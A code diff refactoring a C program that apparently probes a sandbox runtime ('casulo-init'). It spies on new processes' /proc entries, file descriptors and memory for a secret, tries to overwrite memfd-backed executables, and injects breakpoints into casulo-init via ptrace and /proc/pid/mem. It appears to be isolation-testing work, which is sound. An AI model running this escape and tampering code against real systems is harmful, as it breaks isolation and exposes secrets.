@@ -7,12 +7,10 @@
  *
  * and, first of all, "ready". */
 #define _GNU_SOURCE
-#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
 #include <stdio.h>
-#include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
@@ -20,7 +18,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
-static char secret[64];
+static char secret[64], link_text[256];
 static struct stat own_root;
 
 static void say(const char *what, const char *link) {
@@ -28,44 +26,54 @@ static void say(const char *what, const char *link) {
   fflush(stdout);
 }
 
-static const char *link_of(const char *path, char *link, size_t size) {
-  ssize_t length = readlink(path, link, size - 1);
+static const char *link_of(const char *path) {
+  ssize_t length = readlink(path, link_text, sizeof link_text - 1);
   if (length < 0) return NULL;
-  link[length] = '\0';
-  return link;
+  link_text[length] = '\0';
+  return link_text;
+}
+
+static const char *link_of_fd(int fd) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+  const char *link = link_of(path);
+  return link ? link : "";
 }
 
 /* Nobody can open a file for writing that is executed; so this ends who does. */
+static void try_to_write(int pid, int executable) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/fd/%d", executable);
+  kill(pid, SIGKILL);
+  for (int tries = 0; tries < 1000; tries++) {
+    int fd = open(path, O_RDWR | O_CLOEXEC);
+    if (fd < 0 && errno != ETXTBSY) return;
+    if (fd < 0) { usleep(100); continue; }
+    say("exe opened", link_of_fd(fd));
+    if (write(fd, "x", 1) == 1 || ftruncate(fd, 0) == 0) say("exe written", link_of_fd(fd));
+    close(fd);
+    return;
+  }
+}
+
 static void look_at_exe(int pid) {
-  char path[64], link[256];
+  char path[64];
   snprintf(path, sizeof path, "/proc/%d/exe", pid);
   int fd = open(path, O_RDONLY | O_CLOEXEC);
   if (fd < 0) return;
-  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-  say("exe", link_of(path, link, sizeof link) ? link : "");
-  if (strncmp(link, "/memfd:", 7) == 0) {
-    kill(pid, SIGKILL);
-    for (int writable = -1, tries = 0; writable < 0 && tries < 1000; tries++) {
-      writable = open(path, O_RDWR | O_CLOEXEC);
-      if (writable < 0 && errno != ETXTBSY) break;
-      if (writable < 0) { usleep(100); continue; }
-      say("exe opened", link);
-      if (write(writable, "x", 1) == 1 || ftruncate(writable, 0) == 0) say("exe written", link);
-      close(writable);
-    }
-  }
+  say("exe", link_of_fd(fd));
+  if (strncmp(link_text, "/memfd:", 7) == 0) try_to_write(pid, fd);
   close(fd);
 }
 
 static void look_at_descriptors(int pid) {
-  char path[64], link[256];
+  char path[64];
   for (int number = 0; number < 24; number++) {
     snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
-    if (link_of(path, link, sizeof link)) say("fd", link);
+    if (link_of(path)) say("fd", link_text);
     int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
     if (fd < 0) continue;
-    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-    say("fd opened", link_of(path, link, sizeof link) ? link : "");
+    say("fd opened", link_of_fd(fd));
     close(fd);
   }
 }
@@ -89,30 +97,34 @@ static void search(int pid, unsigned long from, unsigned long to) {
   }
 }
 
-static void look_at_memory(int pid) {
-  char path[64], line[512];
+static FILE *maps_of(int pid) {
+  char path[64];
   snprintf(path, sizeof path, "/proc/%d/maps", pid);
-  FILE *maps = fopen(path, "re");
-  if (!maps) return;
+  return fopen(path, "re");
+}
+
+static void look_at_memory(int pid) {
+  char line[512];
   unsigned long from, to;
+  FILE *maps = maps_of(pid);
+  if (!maps) return;
   while (fgets(line, sizeof line, maps))
     if (sscanf(line, "%lx-%lx r", &from, &to) == 2) search(pid, from, to);
   fclose(maps);
 }
 
-/* Fills the code of a process with breakpoints and ends it: whoever shares its memory runs into them. */
+/* Fills the code of casulo-init with breakpoints, and ends the process: whoever shares its memory runs into them. */
 static void strike(int pid) {
   char path[64], line[512], breakpoints[4096];
   unsigned long from, to;
   if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
   ptrace(PTRACE_INTERRUPT, pid, 0, 0);
-  snprintf(path, sizeof path, "/proc/%d/maps", pid);
-  FILE *maps = fopen(path, "re");
+  FILE *maps = maps_of(pid);
   snprintf(path, sizeof path, "/proc/%d/mem", pid);
   int memory = open(path, O_RDWR | O_CLOEXEC);
   memset(breakpoints, 0xcc, sizeof breakpoints);
   while (maps && fgets(line, sizeof line, maps)) {
-    if (sscanf(line, "%lx-%lx r-x", &from, &to) != 2 || !strstr(line, "r-x") || !strstr(line, "casulo-init")) continue;
+    if (!strstr(line, "r-x") || !strstr(line, "casulo-init") || sscanf(line, "%lx-%lx", &from, &to) != 2) continue;
     for (; from < to; from += sizeof breakpoints)
       if (pwrite(memory, breakpoints, sizeof breakpoints, (off_t)from) > 0) say("struck", "");
   }
@@ -122,8 +134,7 @@ static void strike(int pid) {
   waitpid(pid, NULL, __WALL);
 }
 
-static void look_at(int pid, int strikes) {
-  if (strikes) { strike(pid); return; }
+static void look_at(int pid) {
   look_at_place(pid, "root");
   look_at_place(pid, "cwd");
   look_at_descriptors(pid);
@@ -140,7 +151,8 @@ int main(int count, char **word) {
     for (int ahead = 1; ahead <= 4; ahead++)
       if (kill(newest + ahead, 0) == 0 || errno == EPERM) {
         newest += ahead;
-        look_at(newest, strikes);
+        if (strikes) strike(newest);
+        else look_at(newest);
         break;
       }
 }
